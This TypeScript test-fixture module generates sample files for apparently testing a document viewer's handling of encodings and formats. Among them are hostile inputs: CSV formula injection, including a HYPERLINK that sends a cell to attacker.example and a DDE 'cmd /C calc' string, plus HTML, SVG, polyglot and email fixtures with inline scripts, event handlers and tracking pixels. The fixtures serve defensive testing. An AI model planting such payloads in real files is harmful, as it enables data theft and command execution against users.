import { concat, latin1, utf16le } from './bytes.ts'
import { utf8 } from './source-file.ts'

const LETTER = [
  'Crème brûlée for forty, please: naïve façades, Ærø, Łódź, 東京, Ελλάδα.',
  'Kind regards',
  'Zoë Müller',
]

export const utf8Text = (): Uint8Array => utf8(`${LETTER.join('\n')}\n`)

/** With a byte order mark, as Notepad's "Unicode" writes it. */
export const utf16Text = (): Uint8Array => utf16le(`\ufeff${LETTER.join('\r\n')}\r\n`)

/** ISO 8859-1: accents in one byte. Long enough for an encoding to be recognised. */
export const latin1Text = (): Uint8Array =>
  latin1(
    'Très cher client,\n\nVotre paiement de 250,00 a bien été reçu le 3 février. La différence réglée à la livraison' +
      ' sera créditée dès la clôture de l’exercice.\nMerci de votre fidélité; à très bientôt.\n\nL’équipe financière\n'.replaceAll(
        '’',
        "'",
      ),
  )

export const jsonText = (): Uint8Array =>
  utf8(
    '{"customer":{"name":"Harbour Lane Trading","limit":12345678901234567890.10,"tags":["net30","priority"],"parent":null},"active":true}',
  )

export const xmlText = (): Uint8Array =>
  utf8(
    '<?xml version="1.0" encoding="UTF-8"?><invoice number="INV-1042"><!-- paid --><line><item>Beans</item><amount currency="GBP">120.00</amount></line><note>Thanks &amp; goodbye</note></invoice>',
  )

/** Quotes, commas and line breaks inside cells. */
export const quotedCsv = (): Uint8Array =>
  utf8(
    'Name,Address,Note\n"Harbour Lane, Trading","12 Quay St\nBristol","She said ""now"""\nPlain,1 High St,\n',
  )

/** As a continental Excel writes it: semicolons, decimal commas. */
export const semicolonCsv = (): Uint8Array =>
  utf8('Kunde;Betrag;Fällig\nGrün GmbH;1.250,00;03.05.2026\nSchön & Söhne;99,90;17.06.2026\n')

/** What a spreadsheet would calculate; here it is text. */
export const formulaCsv = (): Uint8Array =>
  utf8(
    'Name,Value\n=1+1,"=HYPERLINK(""https://attacker.example/?x=""&A1)"\n+447700900123,-2+3\n@SUM(1),"=cmd|\' /C calc\'!A0"\n',
  )

const ROWS = 50_000
const ROWS_AT_ONCE = 500

/** 50,000 rows, made as they are asked for. Every row has the same length, so the whole is known without making it. */
export function* manyRows(): Generator<Uint8Array> {
  yield utf8(LONG_HEAD)
  for (let from = 0; from < ROWS; from += ROWS_AT_ONCE) {
    let text = ''
    for (let row = from; row < Math.min(ROWS, from + ROWS_AT_ONCE); row++) text += longRow(row)
    yield utf8(text)
  }
}

const LONG_HEAD = 'Row,Date,Account,Description,Debit,Credit\n'

function longRow(row: number): string {
  const day = String(1 + (row % 28)).padStart(2, '0')
  const amount = ((row * 37) % 100_000) / 100
  const number = String(row + 1).padStart(6, '0')
  return `${number},2026-05-${day},${4000 + (row % 60)},"Posting ${number}, batch ${1000 + (row % 100)}",${amount.toFixed(2).padStart(7, '0')},0000.00\n`
}

export const manyRowsLength = (): number => LONG_HEAD.length + ROWS * longRow(0).length

export const htmlFile = (): Uint8Array =>
  utf8(
    `<!doctype html><html><head><title>Statement</title><script>globalThis.deskPayload='html';alert('desk-payload')</script></head><body onload="globalThis.deskPayload='onload'"><h1>Statement</h1><img src="https://attacker.example/pixel.png" onerror="globalThis.deskPayload='onerror'"><iframe src="javascript:parent.deskPayload='frame'"></iframe></body></html>\n`,
  )

export const svgFile = (): Uint8Array =>
  utf8(
    `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80" onload="globalThis.deskPayload='svg'"><script>globalThis.deskPayload='svg script';alert('desk-payload')</script><image href="https://attacker.example/pixel.png" width="9" height="9"/><rect width="120" height="80" fill="teal"/></svg>\n`,
  )

/** A PNG by its first bytes, a web page by what follows: read as an image by some and as a page by others. */
export const polyglotFile = (gif: Uint8Array): Uint8Array =>
  concat(gif, utf8(`<script>globalThis.deskPayload='polyglot';alert('desk-payload')</script>`))

export const emlFile = (): Uint8Array =>
  utf8(
    [
      'From: Mia Chen <mia.chen@harbour-lane.example>',
      'To: accounts@desk.example',
      'Subject: =?utf-8?Q?Invoice_1042_=E2=80=93_caf=C3=A9?=',
      'Date: Mon, 11 May 2026 09:30:00 +0100',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="part"',
      '',
      '--part',
      'Content-Type: multipart/alternative; boundary="alt"',
      '',
      '--alt',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: 8bit',
      '',
      'Dear team,\r\n\r\nthe invoice is attached. Please pay by Friday – thank you.\r\n\r\nMia',
      '--alt',
      'Content-Type: text/html; charset=utf-8',
      '',
      `<p>Dear team</p><img src="https://attacker.example/open.gif"><script>globalThis.deskPayload='eml'</script>`,
      '--alt--',
      '--part',
      'Content-Type: text/csv; name="invoice-1042.csv"',
      'Content-Disposition: attachment; filename="invoice-1042.csv"',
      'Content-Transfer-Encoding: base64',
      '',
      btoa('item,amount\nBeans,120.00\n'),
      '--part--',
      '',
    ].join('\r\n'),
  )
